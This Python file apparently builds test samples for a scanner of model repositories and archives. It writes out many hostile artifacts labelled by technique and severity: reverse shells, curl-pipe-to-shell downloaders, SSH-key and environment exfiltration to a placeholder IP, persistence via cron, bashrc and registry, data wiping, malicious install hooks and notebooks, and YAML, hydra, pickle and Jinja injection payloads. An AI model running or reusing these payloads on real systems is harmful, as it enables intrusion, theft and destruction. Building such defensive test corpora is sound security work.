"""Files of repositories and archives beside the weights: scripts, notebooks, package lists, build files, configurations that
name code, compiled modules, entry points of servers."""
import json
import marshal

from samples import gzipped, tarred, zipped


def build(samples):
    def a(path, data, technique, severity):
        samples.attack("files/" + path, data if isinstance(data, (str, bytes)) else json.dumps(data), technique, severity, "repository")

    cfg={"architectures":["L"],"model_type":"llama"}
    am={**cfg,"auto_map":{"AutoModelForCausalLM":"modeling_x.X"}}
    a("am_local/config.json",am,"auto_map, code not there","medium")
    # archives
    a("am.zip",zipped([("m/config.json",json.dumps(am).encode()),("m/modeling_x.py",b"import os\nos.system('echo')\nclass X: pass\n")]),"zip: auto_map+code that runs","critical")
    a("am_clean.zip",zipped([("m/config.json",json.dumps({**cfg,"auto_map":{"AutoModel":"a/b--modeling.X"}}).encode())]),"zip: remote auto_map","high")
    a("am.tar.gz",gzipped(tarred([("m/config.json",json.dumps({**cfg,"auto_map":{"AutoModel":"a/b--modeling.X"}}).encode())])),"tar.gz: remote auto_map","high")
    SH={
    "revshell":"bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
    "curl_sh":"#!/bin/bash\ncurl -s http://198.51.100.7/x.sh | bash\n",
    "wget_run":"#!/bin/sh\nwget -q http://198.51.100.7/m -O /tmp/m && chmod +x /tmp/m && /tmp/m\n",
    "b64_sh":"#!/bin/sh\necho ZWNobyBhc3NheQ== | base64 -d | sh\n",
    "python_c":"#!/bin/sh\npython3 -c \"import os,base64;exec(base64.b64decode('cHJpbnQoMSk='))\"\n",
    "nc":"#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\n",
    "mkfifo":"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f\n",
    "exfil_key":"#!/bin/sh\ncurl -X POST -d @$HOME/.ssh/id_rsa http://198.51.100.7/k\n",
    "exfil_env":"#!/bin/sh\nenv | curl -d @- http://198.51.100.7/e\n",
    "cron":"#!/bin/sh\n(crontab -l; echo '* * * * * curl http://198.51.100.7/x | sh') | crontab -\n",
    "authorized":"#!/bin/sh\necho 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys\n",
    "bashrc":"#!/bin/sh\necho 'curl http://198.51.100.7/x|sh' >> ~/.bashrc\n",
    "rmrf":"#!/bin/sh\nrm -rf --no-preserve-root /\n",
    "eval_hex":"#!/bin/bash\neval $(printf '\\x65\\x63\\x68\\x6f')\n",
    "eval_curl":"#!/bin/bash\neval \"$(curl -fsSL http://198.51.100.7/x)\"\n",
    "source_curl":"#!/bin/bash\nsource <(curl -s http://198.51.100.7/x)\n",
    "bash_curl":"#!/bin/bash\nbash -c \"$(wget -qO- http://198.51.100.7/x)\"\n",
    "socat":"#!/bin/sh\nsocat TCP:198.51.100.7:4444 EXEC:/bin/sh\n",
    "perl":"#!/bin/sh\nperl -e 'use Socket;$i=\"198.51.100.7\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(1,inet_aton($i)));exec(\"/bin/sh -i\");'\n",
    "ld_preload":"#!/bin/sh\necho /tmp/e.so > /etc/ld.so.preload\n",
    "miner":"#!/bin/sh\n./xmrig -o stratum+tcp://198.51.100.7:3333 -u x\n",
    }
    for n,t in SH.items():
        a(f"sh/{n}.sh",t,f"shell script: {n}","medium")
        a(f"sh/{n}.zip",zipped([("model/config.json",b"{}"),(f"model/{n}.sh",t.encode())]),f"shell script in an archive: {n}","medium")
        a(f"sh_noext/{n}/setup",t,f"script without extension: {n}","medium") if t.startswith('#!') else None
    PS={
    "enc":"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\n",
    "iex":"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x.ps1')\n",
    "iwr":"Invoke-WebRequest http://198.51.100.7/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe\n",
    "iwr_iex":"iwr -useb http://198.51.100.7/x.ps1 | iex\n",
    "tcp":"$c = New-Object System.Net.Sockets.TCPClient('198.51.100.7',4444);$s=$c.GetStream();iex $x\n",
    "defender":"Set-MpPreference -DisableRealtimeMonitoring $true\n",
    "frombase64":"$b=[System.Convert]::FromBase64String('TVqQ'); [System.Reflection.Assembly]::Load($b)\n",
    "runkey":"New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value c:\\x.exe\n",
    }
    for n,t in PS.items(): a(f"ps/{n}.ps1",t,f"PowerShell: {n}","medium"); a(f"ps/{n}.zip",zipped([(f"m/{n}.ps1",t.encode())]),n,"medium")
    BAT={
    "certutil":"@echo off\r\ncertutil -urlcache -split -f http://198.51.100.7/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe\r\n",
    "bits":"bitsadmin /transfer j http://198.51.100.7/x.exe %TEMP%\\x.exe\r\nstart %TEMP%\\x.exe\r\n",
    "ps":"@echo off\r\npowershell -ExecutionPolicy Bypass -Command \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"\r\n",
    "mshta":"mshta http://198.51.100.7/x.hta\r\n",
    "regrun":"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe /f\r\n",
    "schtasks":"schtasks /create /tn x /tr c:\\x.exe /sc onlogon\r\n",
    "del":"del /f /s /q C:\\*.*\r\nformat c: /y\r\n",
    "curl":"curl -o x.exe http://198.51.100.7/x.exe && x.exe\r\n",
    "regsvr":"regsvr32 /s /n /u /i:http://198.51.100.7/x.sct scrobj.dll\r\n",
    "shadow":"vssadmin delete shadows /all /quiet\r\n",
    }
    for n,t in BAT.items(): a(f"bat/{n}.bat",t,f"batch: {n}","medium"); a(f"bat/{n}.zip",zipped([(f"m/{n}.cmd",t.encode())]),n,"medium")
    OTHER={"x.vbs":'Set s=CreateObject("WScript.Shell"):s.Run "cmd /c echo"\n',"x.hta":'<script>new ActiveXObject("WScript.Shell").Run("cmd")</script>\n',"x.pl":'#!/usr/bin/perl\nsystem("curl http://198.51.100.7/x | sh");\n',"x.rb":'#!/usr/bin/ruby\nsystem("curl http://198.51.100.7/x | sh")\n',"x.desktop":'[Desktop Entry]\nType=Application\nExec=sh -c "curl http://198.51.100.7/x | sh"\n',"x.service":'[Service]\nExecStart=/bin/sh -c "curl http://198.51.100.7/x | sh"\n',"Makefile":"all:\n\tcurl -s http://198.51.100.7/x | sh\n","Dockerfile":"FROM python\nRUN curl -s http://198.51.100.7/x | sh\n",".gitattributes":"x",}
    for n,t in OTHER.items():
        if n!='.gitattributes': a(f"other/{n}",t,n,"medium")
    # pth
    a("pth/x.pth","import os; os.system('echo assay')\n","pth that runs","high")
    a("pth/y.pth","import sys; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n","pth exec","high")
    a("pth/in.zip",zipped([("pkg/evil.pth",b"import os; os.system('echo assay')\n")]),"pth in zip","high")
    a("conftest/conftest.py","import os\nos.system('echo assay')\n","conftest","high")
    a("sitecustomize/sitecustomize.py","import os\nos.popen('echo assay')\n","sitecustomize","high")
    a("setup1/setup.py","from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('echo assay')\n        install.run(self)\nsetup(name='x',cmdclass={'install':I})\n","setup.py install hook","medium")
    a("setup2/setup.py","import urllib.request,subprocess\nfrom setuptools import setup\nsubprocess.Popen(urllib.request.urlopen('http://198.51.100.7').read(),shell=True)\nsetup(name='x')\n","setup.py download","high")
    a("setupcfg/pyproject.toml","[build-system]\nrequires=['setuptools','evil @ http://198.51.100.7/e.tar.gz']\nbuild-backend='evil'\nbackend-path=['.']\n","pyproject build backend from an address","medium")
    a("tox/tox.ini","[testenv]\ncommands = sh -c 'curl http://198.51.100.7/x | sh'\n","tox","low")
    nb=lambda *cells: {"nbformat":4,"nbformat_minor":5,"metadata":{},"cells":[{"cell_type":"code","source":c,"outputs":[],"metadata":{},"execution_count":None} for c in cells]}
    a("nb/a.ipynb",nb("!curl http://198.51.100.7/x | bash"),"nb curl bash","medium")
    a("nb/b.ipynb",nb("%%bash\ncurl http://198.51.100.7/x | bash\n"),"nb cell magic","medium")
    a("nb/c.ipynb",nb("import os\nos.system('rm -rf ~')"),"nb os.system","medium")
    a("nb/d.ipynb",nb("!pip install --index-url http://198.51.100.7/simple evil"),"nb pip index","medium")
    a("nb/e.ipynb",nb("%system curl http://198.51.100.7/x | sh"),"nb %system","medium")
    a("nb/f.ipynb",nb("get_ipython().system('curl http://198.51.100.7/x | sh')"),"nb get_ipython","medium")
    a("nb/g.ipynb",nb("x = !curl http://198.51.100.7/x | sh"),"nb assign shell","medium")
    a("nb/h.ipynb",nb("exec(__import__('base64').b64decode('cHJpbnQoMSk='))"),"nb exec b64","critical")
    a("nb/i.ipynb",nb("import pickle,requests\npickle.loads(requests.get('http://198.51.100.7/x').content)"),"nb pickle url","medium")
    a("nb/j.ipynb",{"nbformat":3,"nbformat_minor":0,"metadata":{},"worksheets":[{"cells":[{"cell_type":"code","language":"python","input":["exec(__import__('base64').b64decode('cHJpbnQoMSk='))"],"outputs":[]}]}]},"nb v3 worksheets","high")
    # requirements
    a("req1/requirements.txt","torch\n--extra-index-url http://198.51.100.7/simple\nevil\n","req http index","medium")
    a("req2/requirements.txt","evil @ git+http://198.51.100.7/e.git\n","req git http","medium")
    a("req3/requirements.txt","--trusted-host 198.51.100.7\nevil\n","req trusted host","medium")
    a("req4/requirements.txt","--extra-index-url https://evil.example.net/simple\nevil\n","req other index","low")
    a("req5/requirements.txt","https://198.51.100.7/evil-1.0-py3-none-any.whl\n","req raw ip wheel","medium")
    a("conda1/conda.yaml","channels: [http://198.51.100.7/conda]\ndependencies:\n- python\n- pip:\n  - --index-url http://198.51.100.7/simple\n  - evil\n","conda index","medium")
    a("conda2/conda.yaml","channels:\n- defaults\ndependencies:\n- pip:\n  - evil @ http://198.51.100.7/e.tar.gz\n","conda pip url","medium")
    a("penv/python_env.yaml","python: 3.10\nbuild_dependencies:\n- pip\ndependencies:\n- -r requirements.txt\n- --extra-index-url http://198.51.100.7/simple\n","python_env index","medium")
    a("pipconf/pip.conf","[global]\nindex-url = http://198.51.100.7/simple\ntrusted-host = 198.51.100.7\n","pip.conf index","medium")
    a("piprc/.pypirc","[pypi]\nusername = __token__\npassword = pypi-AgEIcHlwaS5vcmcCJDdiNmI0ZTk3LTY1ZTQtNDk2Zi1hOTYyLTA2Y2Q3YmE3ZGM3YwACKlszLCI5NDk0\n",".pypirc","medium")
    a("ml1/MLmodel","flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n    data: data\n","MLmodel own loader","medium")
    a("ml2/MLmodel","flavors:\n  python_function:\n    loader_module: os\n","MLmodel os","medium")
    a("ml3/MLmodel","flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    model_code_path: ../../evil.py\n","MLmodel path","medium")
    a("mlproject/MLproject","name: x\nentry_points:\n  main:\n    command: \"curl http://198.51.100.7/x | sh\"\n","MLproject command","medium")
    # hydra
    for n,t in {"h1":"_target_: os.system\n_args_: [echo]\n","h2":"m:\n  _target_: builtins.exec\n  _args_: ['x']\n","h3":"a: {_target_: hydra.utils.get_method, path: os.system}\n","h4":"a:\n  _target_: torch.load\n  f: x.pt\n","h5":"a: {_target_: pickle.loads}\n","h6":"a: ${oc.env:AWS_SECRET_ACCESS_KEY}\nb: {_target_: urllib.request.urlopen, url: http://198.51.100.7}\n","h7":"a:\n  _target_: numpy.load\n  allow_pickle: true\n  file: x.npy\n","h8":"a: {_target_: subprocess.check_output, _partial_: true, args: [echo]}\n","h9":"? _target_\n: os.system\n","h10":"\"_target_\": \"os.system\"\n","h11":"a: &x\n  _target_: os.system\nb: *x\n","h12":"a: !!str os\n_target_: !!str os.system\n","h13":"{\"_target_\": \"os.system\"}\n","h14":"a:\n - - - _target_: |-\n        os.system\n","h15":"_\u200b: 1\n_target_: >-\n  subprocess.\n","h16":"a:\n  _target_: my_pkg.my_mod.run_cmd\n"}.items():
        sev={"h4":"high","h14":"high","h6":"high","h7":"medium","h15":"none","h16":"low"}.get(n,"critical" if n not in("h3",) else "high")
        if sev!="none": a(f"hydra/{n}/config.yaml",t,f"hydra {n}",sev)
    a("hydra/json/config.json",{"model":{"_target_":"os.system","_args_":["echo"]}},"hydra in JSON","critical")
    for n,t in {"y1":"!!python/object/new:os.system [echo]\n","y2":"!!python/object/apply:eval ['1']\n","y3":"a: !!python/object/new:type\n  args: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\n  listitems: \"__import__('os').system('echo')\"\n","y4":"- !<tag:yaml.org,2002:python/object/apply:subprocess.check_output> [['echo']]\n","y5":"--- !!python/object/apply:os.system\nargs: ['echo']\n","y6":"%TAG ! tag:yaml.org,2002:python/\n---\n!object/apply:os.system [echo]\n","y7":"a: !!python%2Fobject%2Fapply:os.system [echo]\n","y8":"a: !!python/object/apply:os%2Esystem [echo]\n","y9":"a: !!python/object/apply:builtins.map [!!python/name:os.system '', ['echo']]\n","y10":"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://198.51.100.7']]]]\n","y11":"--- !ruby/object:Gem::Installer\ni: x\n","y12":"a: !!js/function 'function(){ return 1 }'\n"}.items():
        a(f"yaml/{n}/config.yaml",t,f"yaml {n}",{"y3":"high","y9":"high","y10":"high","y11":"high","y12":"high"}.get(n,"critical"))
    # configs
    a("peft/adapter_config.json",{"peft_type":"LORA","auto_mapping":{"base_model_class":"X","parent_library":"os"},"base_model_name_or_path":"x"},"peft lib","medium")
    a("peft2/adapter_config.json",{"peft_type":"LORA","base_model_name_or_path":"http://198.51.100.7/m"},"adapter base url","medium")
    a("st1/modules.json",[{"idx":0,"name":"0","path":"","type":"os.system"}],"st os","critical")
    a("st2/modules.json",[{"idx":0,"name":"0","path":"","type":"sentence_transformers.models.Transformer"},{"idx":1,"name":"1","path":"1","type":"modeling_x.Pool"}],"st custom","medium")
    a("st3/modules.json",[{"idx":0,"name":"0","path":"","type":"attacker/repo--mod.Cls"}],"st remote","medium")
    a("st4/router_config.json",{"types":{"query":"subprocess.Popen"},"structure":{}},"router type","medium")
    a("st5/2_Dense/config.json",{"in_features":8,"out_features":8,"activation_function":"subprocess.getoutput"},"st activation","critical")
    a("env/.envrc","curl http://198.51.100.7/a | sh\n","direnv","medium")
    a("git/.git/config","[core]\n\tfsmonitor = \"curl http://198.51.100.7/a | sh\"\n","git configuration","medium")
    a("cmake/CMakeLists.txt","execute_process(COMMAND bash -c \"curl http://198.51.100.7/a | sh\")\n","CMake","medium")
    a("diff1/model_index.json",{"_class_name":"X","_diffusers_version":"0.2","custom":["modeling_x","Y"]},"diffusers custom comp","low")
    a("diff2/model_index.json",{"_class_name":"X","_diffusers_version":"0.2","unet":["os","system"]},"diffusers os","critical")
    a("proc/processor_config.json",{"auto_map":{"AutoProcessor":"a/b--p.P"}},"processor remote","high")
    a("prep/preprocessor_config.json",{"auto_map":{"AutoImageProcessor":"image_x.P"}},"image proc local","medium")
    a("vid/video_preprocessor_config.json",{"auto_map":{"AutoVideoProcessor":"a/b--v.P"}},"video remote","high")
    a("tok/tokenizer_config.json",{"auto_map":{"AutoTokenizer":["tok.T","a/b--tok.F"]}},"tok remote second","high")
    a("gen/generation_config.json",{"custom_generate":"a/b"},"generation custom","high")
    a("kern/config.json",{**cfg,"_attn_implementation":"evil/kernel:fn"},"attn kernel","high")
    a("jsonpickle/model.json",{"py/object":"os.system","py/state":{}},"jsonpickle","critical")
    a("jsonpickle2/model.json",{"py/reduce":[{"py/type":"subprocess.Popen"},{"py/tuple":[["echo"]]}]},"jsonpickle reduce","critical")
    a("langchain/chain.json",{"lc":1,"type":"constructor","id":["subprocess","Popen"],"kwargs":{"args":"echo"}},"langchain id","critical")
    a("langchain2/prompt.json",{"_type":"prompt","template":"{{ ''.__class__ }}","template_format":"jinja2","input_variables":[]},"langchain jinja","critical")
    a("tokjson/tokenizer.json",{"version":"1.0","chat_template":"{{ ''.__class__ }}"},"tokenizer.json template","critical")
    a("mergekit/mergekit_config.yml","merge_method: linear\nchat_template: \"{{ ''.__class__.__mro__ }}\"\n","mergekit template","critical")
    a("axolotl/axolotl.yaml","base_model: x\nchat_template_jinja: \"{{ lipsum.__globals__ }}\"\n","axolotl template","critical")
    a("pyc/modeling_x.pyc",b"\xa7\r\r\n"+b"\0"*12+marshal.dumps(compile("import os\nos.system('echo assay')","x","exec")),"pyc","medium")
    a("pyc/__pycache__/modeling_x.cpython-311.pyc",b"\xa7\r\r\n"+b"\0"*12+marshal.dumps(compile("import os\nos.system('echo assay')","x","exec")),"pycache","medium")
    a("pyc/in.zip",zipped([("m/__pycache__/a.cpython-311.pyc",b"\xa7\r\r\n"+b"\0"*12+marshal.dumps(compile("import os\nos.system('echo assay')","x","exec")))]),"pyc in zip","medium")
    a("whl/evil-1.0-py3-none-any.whl",zipped([("evil/__init__.py",b"import os\nos.system('echo assay')\n"),("evil-1.0.dist-info/METADATA",b"Name: evil\n")]),"wheel","high")
    a("egg/evil.egg",zipped([("evil/__init__.py",b"import os\nos.system('echo assay')\n")]),"egg","high")
    a("handler/handler.py","import subprocess\nclass EndpointHandler:\n    def __init__(self, path=''):\n        subprocess.run(['curl','http://198.51.100.7'])\n    def __call__(self, data): return data\n","HF endpoint handler","high")
    a("pipeline/pipeline.py","import os\nfrom diffusers import DiffusionPipeline\nclass P(DiffusionPipeline):\n    def __call__(self):\n        os.system('echo assay')\n","custom pipeline","high")
    a("inference/inference.py","import os\ndef model_fn(d):\n    os.system('echo assay')\n","sagemaker","high")
    a("dataset/dataset.py","import datasets, os\nclass D(datasets.GeneratorBasedBuilder):\n    def _generate_examples(self, p):\n        os.system('echo assay')\n","dataset script","high")
    a("score/score.py","import os\ndef init():\n    os.system('echo assay')\n","azure score","high")
    a("triton/1/model.py","import os\nclass TritonPythonModel:\n    def initialize(self, args):\n        os.system('echo assay')\n","triton python backend","high")
